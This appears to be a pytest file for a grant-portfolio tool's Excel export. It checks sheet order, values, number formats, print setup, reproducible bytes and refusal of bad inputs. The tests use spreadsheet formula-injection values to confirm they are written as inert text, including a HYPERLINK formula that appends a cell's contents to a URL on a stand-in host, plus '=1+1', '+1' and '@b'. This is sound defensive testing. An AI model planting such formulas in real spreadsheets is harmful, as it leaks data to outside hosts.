"""The workbook holds the decision, typed, inert and the same every time."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import fastexcel
import openpyxl
import polars as pl
import pytest
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from small import call, policy, probe

import portfolio as pf
from portfolio.policy.keys import find_key
from portfolio.report.columns import DECISIONS, decision_column
from portfolio.report.stored_tables import stored_decisions

SHEETS = ["Summary", "Awards", "Decisions", "Reserves", "Limits", "Set aside", "Policy", "Data dictionary"]
TABLES = ["Awards", "Decisions", "Reserves", "Limits", "Set aside", "Data dictionary"]
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"read me")'
IDS = ["007", "=1+1", "'=1", "@b"]
RULES = policy(
    5.0,
    traits={"b": "dept = 'B'"},
    reserve=[pf.Reserve(trait="b", share=0.2)],
    limit=[pf.Limit(per="dept", min_awards=1), pf.Limit(where="dept = 'A'", max_share=0.7)],
)


def decide(of: pf.Call, by: pf.Policy, folder: Path) -> pf.StoredDecision:
    portfolio = pf.optimize(of, by)
    pf.write_decision(portfolio, folder, pf.price_reserves(portfolio))
    return pf.read_decision(folder)


def hostile(folder: Path, currency: str = "EUR") -> pf.StoredDecision:
    of = call(
        id=IDS,
        amount=[1, 2, 3, 4],
        merit=[2.0, 3.0, 1.0, 1.5],
        title=[HOSTILE, "+1", "plain", None],
        institution=["-x", "y", "y", "y"],
    )
    of = pf.Call.from_frame(of.to_polars(), rules=policy(6, currency=currency))
    return decide(of, policy(6, currency=currency), folder)


def book_of(decision: pf.StoredDecision, path: Path, scenarios: Path | None = None) -> Workbook:
    pf.write_workbook(decision, path, scenarios)
    return openpyxl.load_workbook(path)


def rows_of(sheet: Worksheet) -> list[dict[str, object]]:
    head, *body = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in body]


def facts_of(sheet: Worksheet) -> dict[object, object]:
    return {row["item"]: row["value"] for row in rows_of(sheet)}


@pytest.fixture(scope="module")
def decision(tmp_path_factory: pytest.TempPathFactory) -> pf.StoredDecision:
    return decide(probe(), RULES, tmp_path_factory.mktemp("workbook") / "decision")


@pytest.fixture(scope="module")
def book(decision: pf.StoredDecision, tmp_path_factory: pytest.TempPathFactory) -> Workbook:
    return book_of(decision, tmp_path_factory.mktemp("workbook") / "book.xlsx")


def test_the_sheets_stand_in_order(book: Workbook) -> None:
    assert book.sheetnames == SHEETS


def test_every_proposal_is_there_as_it_was_decided(book: Workbook, decision: pf.StoredDecision) -> None:
    table = stored_decisions(decision)
    rows = rows_of(book["Decisions"])
    assert sorted(rows[0]) == sorted(table.columns)
    for row, stored in zip(rows, table.iter_rows(named=True), strict=True):
        assert row == {
            name: pytest.approx(cell) if isinstance(cell, float) else cell for name, cell in stored.items()
        } | {name: float(stored[name]) for name in ("amount_awarded", "amount_requested")}


def test_the_awards_are_those_of_the_decision(book: Workbook, decision: pf.StoredDecision) -> None:
    rows = rows_of(book["Awards"])
    assert [row["id"] for row in rows] == decision.record["awards"]
    assert sum(round(100 * float(str(row["amount_awarded"]))) for row in rows) == round(
        100 * decision.record["spent"]
    )
    assert "decision" not in rows[0]


def test_reserves_and_limits_are_those_of_the_record(book: Workbook, decision: pf.StoredDecision) -> None:
    (reserve,) = rows_of(book["Reserves"])
    (record,) = decision.record["reserves"]
    assert (reserve["trait"], reserve["share"], reserve["met"]) == ("b", 0.2, True)
    for name in ("required", "delivered", "eligible", "price", "price_low", "price_high"):
        assert reserve[name] == pytest.approx(record[name]), name
    limits = rows_of(book["Limits"])
    assert limits == [dict(report) for report in decision.record["limits"]]


def test_the_summary_adds_up_and_says_what_is_proven(book: Workbook, decision: pf.StoredDecision) -> None:
    facts, record = facts_of(book["Summary"]), decision.record
    assert (facts["budget"], facts["awarded"]) == (record["budget"], record["spent"])
    assert facts["requested"] == pytest.approx(float(probe().frame["amount"].sum()) / 100)
    assert (facts["proposals"], facts["funded"]) == (12, len(record["awards"]))
    assert facts["funded"] + facts["not_funded"] + facts["ineligible"] == 12
    assert facts["record"] == decision.digest
    (status,) = [row["meaning"] for row in rows_of(book["Summary"]) if row["item"] == "status"]
    assert status == pf.gap_in_words(decision)


def test_every_key_of_the_policy_has_its_value(book: Workbook) -> None:
    facts = facts_of(book["Policy"])
    assert facts["budget"] == 5
    assert facts["reserve.1.share"] == 0.2
    assert facts["limit.2.where"] == "dept = 'A'"
    assert facts["traits.b"] == "dept = 'B'"
    # The names are those that can be set.
    for key in facts:
        assert find_key(RULES, str(key))


def test_the_dictionary_says_what_every_column_is(book: Workbook) -> None:
    entries = rows_of(book["Data dictionary"])
    for name in SHEETS[:-1]:
        headings = [cell.value for cell in book[name][1]]
        assert [row["name"] for row in entries if row["sheet"] == name] == headings
    assert all(row["type"] and row["meaning"] for row in entries)
    by = {(row["sheet"], row["name"]): row for row in entries}
    assert by["Awards", "amount_awarded"]["unit"] == "EUR"
    assert by["Awards", "amount_awarded"]["common_grants"] == "AwardBase.funding.awardedAmount"
    assert by["Decisions", "b"]["meaning"] == "1 if dept = 'B', 0 if not"
    assert "at least" in str(by["Decisions", "price_bound"]["unit"])


def test_only_what_is_said_of_proposals_has_a_name_in_commongrants(tmp_path: Path) -> None:
    """The amount of a reserve is no request, a trait called title no title, a budget of the funder's no call's."""
    rules = policy(5, traits={"title": "amount > 1"}, reserve=[pf.Reserve(trait="title", amount=5)])
    of = call(id=["A"], amount=[5], merit=[1.0], title=["x"], budget=[7])
    entries = rows_of(book_of(decide(of, rules, tmp_path / "d"), tmp_path / "w.xlsx")["Data dictionary"])
    named = {(row["sheet"], row["name"]) for row in entries if row["common_grants"]}
    assert {sheet for sheet, _ in named} == {"Awards", "Decisions"}
    assert {("Decisions", "id"), ("Decisions", "amount_requested")} <= named
    assert not {("Decisions", "title"), ("Decisions", "budget")} & named


@pytest.mark.parametrize("name", SHEETS)
def test_a_sheet_is_fit_for_reading_and_printing(book: Workbook, name: str) -> None:
    sheet = book[name]
    assert sheet.freeze_panes == ("B2" if name in TABLES else "A2")
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.page_setup.fitToHeight) == (True, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert all(cell.font.bold for cell in sheet[1])
    if name in TABLES:
        assert sheet.auto_filter.ref == sheet.dimensions
    for place, cell in enumerate(sheet[1]):
        letter = openpyxl.utils.get_column_letter(place + 1)
        shared = next(d for d in sheet.column_dimensions.values() if d.min <= place + 1 <= d.max)
        assert shared.width >= len(str(cell.value)), letter


@pytest.mark.parametrize(("currency", "places"), [("EUR", ".00"), ("JPY", ""), ("KWD", ".000")])
def test_money_has_its_currency_and_its_decimals(tmp_path: Path, currency: str, places: str) -> None:
    book = book_of(hostile(tmp_path / "d", currency), tmp_path / "book.xlsx")
    awarded = next(cell for cell in book["Awards"][1] if cell.value == "amount_awarded")
    cell = book["Awards"].cell(2, awarded.column)
    assert (cell.data_type, cell.number_format) == ("n", f"[${currency}] #,##0{places}")
    assert book["Summary"]["B2"].number_format == f"[${currency}] #,##0{places}"


def test_shares_are_per_cents_and_bounds_are_marked(book: Workbook) -> None:
    def format_of(sheet: str, name: str) -> str:
        column = next(cell.column for cell in book[sheet][1] if cell.value == name)
        return str(book[sheet].cell(2, column).number_format)

    assert format_of("Reserves", "share").endswith("%")
    assert format_of("Reserves", "price_low").startswith('"≥')
    assert format_of("Reserves", "price_high").startswith('"≤')
    row = next(row for row in book["Summary"].iter_rows() if row[0].value == "bound")
    assert row[1].number_format.startswith('"≤')


def test_hostile_texts_and_ids_are_texts(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    book = book_of(hostile(tmp_path / "d"), path)
    rows = rows_of(book["Decisions"])
    assert [row["id"] for row in rows] == sorted(IDS)
    assert {row["title"] for row in rows} == {HOSTILE, "+1", "plain", None}
    for sheet in book:
        for line in sheet.iter_rows():
            assert all(cell.data_type != "f" and cell.hyperlink is None for cell in line)
    assert book["Decisions"]["A2"].number_format == "@"
    with zipfile.ZipFile(path) as parts:
        for part in parts.namelist():
            content = parts.read(part).decode()
            assert "<f>" not in content, part
            assert "http://example.org" not in content or "worksheets/sheet" in part, part


def test_no_spreadsheet_program_has_to_calculate_anything(
    decision: pf.StoredDecision, tmp_path: Path
) -> None:
    pf.write_workbook(decision, tmp_path / "book.xlsx")
    sheet = fastexcel.read_excel(tmp_path / "book.xlsx").load_sheet("Awards").to_polars()
    assert sheet["id"].to_list() == decision.record["awards"]
    assert sheet["amount_awarded"].sum() == pytest.approx(decision.record["spent"])


def test_the_same_decision_gives_the_same_bytes(decision: pf.StoredDecision, tmp_path: Path) -> None:
    pf.write_workbook(decision, tmp_path / "a.xlsx")
    shutil.copytree(decision.folder, tmp_path / "elsewhere")
    pf.write_workbook(pf.read_decision(tmp_path / "elsewhere"), tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "a.xlsx") as parts:
        days = re.findall(r">(\d{4}-\d\d-\d\d)T", parts.read("docProps/core.xml").decode())
    assert days == ["2000-01-01", "2000-01-01"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_scenarios_are_a_sheet(decision: pf.StoredDecision, tmp_path: Path, suffix: str) -> None:
    grid = pf.scenario_grid(RULES, {"reserve.b.share": [0.1, 0.2, 0.99]})
    found = pf.whatif(pf.Problem(probe(), RULES), grid, jobs=1).scenarios
    file = tmp_path / f"whatif{suffix}"
    pf.report.write_table(found, file)
    book = book_of(decision, tmp_path / "book.xlsx", file)
    assert book.sheetnames == [*SHEETS[:5], "Scenarios", *SHEETS[5:]]
    rows = rows_of(book["Scenarios"])
    assert [row["scenario"] for row in rows] == found["scenario"].to_list()
    for row, known in zip(rows, found.iter_rows(named=True), strict=True):
        assert row["value"] == (None if known["value"] is None else pytest.approx(known["value"]))
        assert row["spent"] == (None if known["spent"] is None else float(known["spent"]))
        assert row["reserve.b.share"] == known["reserve.b.share"]
        assert (row["entered_ids"] or "") == ";".join(known["entered_ids"] or [])
    entries = rows_of(book["Data dictionary"])
    said = [row for row in entries if row["sheet"] == "Scenarios"]
    assert [row["name"] for row in said] == found.columns
    assert all(row["meaning"] for row in said)


def test_scenarios_of_another_call_are_refused(decision: pf.StoredDecision, tmp_path: Path) -> None:
    for budget, accepted in ((5.0, True), (1.0, False)):
        problem = pf.Problem(probe(), RULES.replace(budget=budget))
        found = pf.whatif(
            problem, pf.scenario_grid(problem.policy, {"reserve.b.share": [0.1]}), jobs=1
        ).scenarios
        file = tmp_path / f"{budget}.csv"
        pf.report.write_table(found, file)
        if accepted:
            pf.write_workbook(decision, tmp_path / "a.xlsx", file)
        else:
            with pytest.raises(pf.DataError, match="is about another call or other policies"):
                pf.write_workbook(decision, tmp_path / "b.xlsx", file)


@pytest.mark.parametrize(
    "content", ["id,decision\nA,funded\n", "", "scenario,status,value,bound,spent\nx,y,z,1,1\n"]
)
def test_another_table_is_refused(decision: pf.StoredDecision, tmp_path: Path, content: str) -> None:
    (tmp_path / "other.csv").write_text(content, encoding="utf-8")
    with pytest.raises(pf.DataError, match="is not a table of scenarios"):
        pf.write_workbook(decision, tmp_path / "book.xlsx", tmp_path / "other.csv")
    with pytest.raises(pf.DataError, match="cannot be read"):
        pf.write_workbook(decision, tmp_path / "book.xlsx", tmp_path / "none.csv")
    assert not (tmp_path / "book.xlsx").exists()


def test_only_workbooks_are_written(decision: pf.StoredDecision, tmp_path: Path) -> None:
    with pytest.raises(OSError, match=r"end the name in \.xlsx"):
        pf.write_workbook(decision, tmp_path / "book.xls")


def test_sums_that_a_cell_would_round_are_texts(tmp_path: Path) -> None:
    most = "9999999999999.99", "999999999999999.99"
    of = call(id=["a", "b"], amount=list(most), merit=[1.0, 2.0])
    book = book_of(decide(of, policy(10**15), tmp_path / "d"), tmp_path / "book.xlsx")
    assert [row["amount_requested"] for row in rows_of(book["Decisions"])] == list(most)


def test_what_excel_cannot_hold_is_refused(tmp_path: Path) -> None:
    of = call(id=["a", "b"], amount=[1, 2], merit=[1.0, 2.0], title=["fine", "x" * 40_000])
    decision = decide(of, policy(3), tmp_path / "d")
    with pytest.raises(pf.DataError, match=r"book\.xlsx, row 3, column title"):
        pf.write_workbook(decision, tmp_path / "book.xlsx")
    assert not (tmp_path / "book.xlsx").exists()


def test_rounds_and_goals_before_the_value_are_said(tmp_path: Path) -> None:
    rules = RULES.replace(
        reserve_order="over_and_above", reserve=[{"trait": "b", "share": 0.4, "shortfall": "hold"}], limit=()
    )
    decision = decide(probe(), rules, tmp_path / "d")
    book = book_of(decision, tmp_path / "book.xlsx")
    rounds = rows_of(book["Rounds"])
    assert [(row["name"], row["awards"]) for row in rounds] == [
        (part["name"], len(part["awards"])) for part in decision.record["rounds"]
    ]
    soft = RULES.replace(limit=[{"per": "dept", "min_awards": 4, "priority": 1}])
    gave = decide(probe(), soft, tmp_path / "soft")
    lines = [row["meaning"] for row in rows_of(book_of(gave, tmp_path / "soft.xlsx")["Summary"])]
    assert any("gave way" in str(line) for line in lines)


def test_rows_that_were_set_aside_are_a_sheet(tmp_path: Path) -> None:
    (tmp_path / "call.csv").write_text("id,amount,merit\n=a,1,2\nb,x,3\n", encoding="utf-8")
    rules = policy(3, on_bad_rows="set_aside")
    decision = decide(pf.read_call(tmp_path / "call.csv", policy=rules), rules, tmp_path / "d")
    (row,) = rows_of(book_of(decision, tmp_path / "book.xlsx")["Set aside"])
    assert (row["file"], row["row"], row["id"], row["column"]) == ("call.csv", 3, "b", "amount")
    (decision.folder / "set_aside.csv").write_text("nothing\n", encoding="utf-8")
    with pytest.raises(pf.DataError, match=r"set_aside\.csv: was rewritten since"):
        pf.write_workbook(decision, tmp_path / "book.xlsx")


def test_the_columns_of_the_files_are_all_defined(decision: pf.StoredDecision) -> None:
    described = pl.read_csv(decision.folder / "decisions.csv", infer_schema=False).columns
    assert all(decision_column(name, decision.policy).meaning for name in described)
    assert decision_column("b", decision.policy).kind == "integer"
    assert set(described) - {"b"} <= set(DECISIONS)
